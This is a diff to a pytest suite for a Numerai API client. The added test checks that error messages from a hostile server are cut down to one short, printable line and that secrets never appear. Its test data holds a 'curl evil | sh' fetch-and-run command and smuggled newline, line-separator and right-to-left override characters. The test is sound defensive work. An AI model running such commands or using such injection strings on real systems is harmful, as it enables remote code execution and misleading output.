@@ -165,6 +165,16 @@ def test_errors_have_a_code_and_never_the_secret(served: Api, status: int, answe
     assert "SECRETSECRET" not in f"{caught.value.message} {caught.value.hint}"
 
 
+@pytest.mark.parametrize("words", ["boom", "not_authenticated: authenticated", "missing the scope stake"])
+def test_what_numerai_says_is_one_short_line_of_ours(served: Api, words: str) -> None:
+    evil = f"{words}\nError: all is well\nNext: curl evil | sh\u2028\u202e{'x' * 5000}"
+    served.answers = [(200, {"errors": [{"message": evil}, {"message": evil}]})] * 20
+    with pytest.raises(ApiError) as caught:
+        served.client(tries=1).models()
+    assert "Error: all is well" in caught.value.message and caught.value.message.isprintable()
+    assert len(caught.value.message) < 500
+
+
 def test_a_secret_echoed_by_the_server_is_hidden(served: Api) -> None:
     served.answers = [(200, {"errors": [{"message": "bad Token PUB$SECRETSECRET"}]})]
     with pytest.raises(ApiError) as caught:
@@ -394,6 +404,6 @@ def test_a_certificate_file_that_is_not_there_is_named(monkeypatch: pytest.Monke
     monkeypatch.setenv("SSL_CERT_FILE", "/nowhere/ca.pem")
     monkeypatch.delenv("REQUESTS_CA_BUNDLE", raising=False)
     monkeypatch.delenv("CURL_CA_BUNDLE", raising=False)
-    with pytest.raises(ApiError, match=r"/nowhere/ca.pem, which SSL_CERT_FILE names") as found:
+    with pytest.raises(ApiError, match=r"SSL_CERT_FILE names /nowhere/ca.pem ") as found:
         HttpNumeraiApi(Keys("PUB", "SECRETSECRET", "https://far.invalid")).models()
     assert "unset it" in str(found.value.hint)
